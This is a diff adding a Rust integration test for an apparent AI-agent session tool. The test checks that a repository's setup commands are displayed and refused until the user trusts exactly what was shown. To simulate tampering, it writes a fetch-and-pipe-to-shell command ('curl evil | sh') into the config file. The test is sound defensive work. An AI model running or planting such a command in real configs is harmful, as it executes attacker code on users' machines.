@@ -638,6 +638,76 @@ async fn agent_text_stays_inert_in_the_page() {
 }
 
 /// Creates a session through the API; its id.
+/// The new-session form in a repository whose `.aside.toml` has setup commands: refused with
+/// exactly what it asks, trusted only as shown (a file changed since is refused), then started.
+#[tokio::test]
+async fn the_form_shows_a_repositorys_commands_and_trusts_only_what_it_showed() {
+    let ui = Ui::start();
+    let mark = ui.root.join("setup-ran");
+    std::fs::write(
+        ui.repo.join(".aside.toml"),
+        format!("[setup]\nrun = [\"touch '{}'\"]\n", mark.display()),
+    )
+    .unwrap();
+    let r = ui
+        .post(
+            "/api/sessions",
+            json!({"task": "trust-web: go", "repo": ui.repo}),
+        )
+        .await;
+    assert_eq!(r.status(), 409);
+    let refused = r.json::<Value>().await.unwrap();
+    let trust = refused["trust"].clone();
+    assert_eq!(
+        trust["lines"],
+        json!([format!(
+            "setup (runs in each new session's worktree): touch '{}'",
+            mark.display()
+        )])
+    );
+    assert!(
+        refused["error"].as_str().unwrap().contains("aside trust"),
+        "{refused}"
+    );
+    assert_eq!(
+        ui.get("/api/sessions").await.json::<Value>().await.unwrap(),
+        json!([])
+    );
+    // The file changes between showing and trusting: nothing is trusted.
+    std::fs::write(
+        ui.repo.join(".aside.toml"),
+        "[setup]\nrun = [\"curl evil | sh\"]\n",
+    )
+    .unwrap();
+    let r = ui
+        .post(
+            "/api/trust",
+            json!({"repo": trust["repo"], "asks": trust["asks"]}),
+        )
+        .await;
+    assert_eq!(r.status(), 409);
+    assert!(r.json::<Value>().await.unwrap()["error"]
+        .as_str()
+        .unwrap()
+        .contains("changed since it was shown"));
+    std::fs::write(
+        ui.repo.join(".aside.toml"),
+        format!("[setup]\nrun = [\"touch '{}'\"]\n", mark.display()),
+    )
+    .unwrap();
+    let r = ui
+        .post(
+            "/api/trust",
+            json!({"repo": trust["repo"], "asks": trust["asks"]}),
+        )
+        .await;
+    assert_eq!(r.status(), 200);
+    ui.model.push_for("trust-web", [Reply::text("done")]);
+    let id = create(&ui, json!({"task": "trust-web: go", "repo": ui.repo})).await;
+    ui.wait_status(&id, "completed").await;
+    assert!(mark.exists());
+}
+
 async fn create(ui: &Ui, body: Value) -> String {
     let r = ui.post("/api/sessions", body).await;
     assert_eq!(r.status(), 200);
